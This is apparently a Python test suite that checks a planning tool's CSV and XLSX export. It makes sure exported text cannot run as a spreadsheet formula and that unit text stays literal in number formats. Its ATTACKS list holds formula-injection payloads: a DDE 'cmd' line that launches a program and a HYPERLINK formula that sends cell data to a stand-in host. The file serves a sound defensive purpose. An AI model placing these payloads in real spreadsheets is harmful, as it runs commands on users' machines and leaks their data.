"""Spreadsheet safety: no text machiplan writes into a CSV or XLSX can run as a formula."""

import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from machiplan.interchange.spreadsheet_safety import (
    csv_cell,
    csv_row,
    csv_text_back,
    starts_formula,
    xlsx_value,
)

ATTACKS = ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''+x"]  # fmt: skip


def test_a_text_that_would_run_is_quoted_in_csv():
    for text in ATTACKS:
        assert starts_formula(text) and csv_cell(text) == "'" + text


def test_numbers_and_ordinary_text_stay_as_they_are():
    for value in (
        "-3.5",
        "-12",
        "3.5",
        "0",
        "",
        "札幌市",
        "2,684団体",
        "'quoted",
        "a=b",
        "―",
        -3.5,
        Decimal("-2"),
        7,
        None,
    ):
        assert csv_cell(value) == value


@given(st.text())
def test_csv_text_back_undoes_the_quote_exactly(text):
    written = csv_cell(text)
    assert csv_text_back(written) == text
    assert (
        not written or written[0] not in "=+-@\t\r\n" or _plain_number(written)
    )  # what Excel would run, it cannot


def _plain_number(text):
    import re

    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is not None


def test_xlsx_keeps_the_text_exact_as_a_string_never_a_formula():
    book = Workbook()
    sheet = book.active
    sheet.append([xlsx_value(sheet, v) for v in [*ATTACKS, -3.5, "-3.5", "plain"]])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS) + ["n", "s", "s"]
    assert [c.value for c in cells] == [*ATTACKS, -3.5, "-3.5", "plain"]
    assert all(c.quotePrefix for c in cells[: len(ATTACKS)])  # Excel keeps it text even when edited


def test_a_plan_package_keeps_such_text_exactly(sapporo, tmp_path):
    """Packages are machiplan's own interchange format: read back by machiplan, so nothing is quoted."""
    from dataclasses import replace

    from machiplan.interchange.package import read_package, write_package

    ind = sapporo.indicators[0]
    first = replace(ind.observations[0], note=ATTACKS[0], source_text=ATTACKS[3])
    plan = replace(
        sapporo,
        indicators=(
            replace(ind, name=ATTACKS[1], observations=(first, *ind.observations[1:])),
            *sapporo.indicators[1:],
        ),
    )
    write_package(plan, tmp_path / "pkg")
    assert read_package(tmp_path / "pkg") == plan
    assert ATTACKS[1] in (tmp_path / "pkg" / "indicators.csv").read_text(encoding="utf-8")


class Marked(str):
    """A text of a subclass of str (Django's SafeString is one): quoted all the same."""


@given(st.lists(st.text(max_size=6) | st.sampled_from(ATTACKS) | st.integers() | st.none(), max_size=8))
def test_a_row_is_its_cells_each_made_safe(values):
    assert csv_row(values) == [csv_cell(v) for v in values]
    assert csv_row([Marked(v) for v in ATTACKS]) == ["'" + v for v in ATTACKS]


# --- a unit in a number format ----------------------------------------------------------------


def _literal_text(number_format: str) -> tuple[str, str]:
    """A number format split as Excel reads it: (its format characters, the text it shows as it is).
    Quoted parts ("件") and escaped characters (\\") are shown; a quote left open breaks the format."""
    code, shown, n = [], [], 0
    while n < len(number_format):
        char = number_format[n]
        if char == '"':
            end = number_format.index('"', n + 1)  # ValueError: an unterminated quoted part
            shown.append(number_format[n + 1 : end])
            n = end + 1
        elif char == "\\":
            shown.append(number_format[n + 1])
            n += 2
        else:
            code.append(char)
            n += 1
    return "".join(code), "".join(shown)


@given(
    unit=st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=12),
    places=st.integers(0, 3),
    approximate=st.booleans(),
)
def test_a_unit_of_any_text_is_shown_as_it_is_by_the_number_format(unit, places, approximate):
    from machiplan.domain.plan import Indicator, Observation
    from machiplan.interchange.spreadsheet_safety import number_format

    value = Decimal(1).scaleb(-places)
    indicator = Indicator(
        code="a", name="a", unit=unit, observations=(Observation(fy=2020, kind="actual", value=value),)
    )
    code, shown = _literal_text(number_format(indicator, approximate))
    assert shown == ("約" if approximate else "") + unit
    assert set(code) <= set("#,0.")  # only the digits' characters are left to the format


def test_a_unit_with_a_double_quote_is_escaped_between_quoted_parts():
    from machiplan.domain.plan import Indicator
    from machiplan.interchange.spreadsheet_safety import number_format

    assert number_format(Indicator(code="a", name="a", unit='インチ"')) == '#,##0"インチ"\\"""'
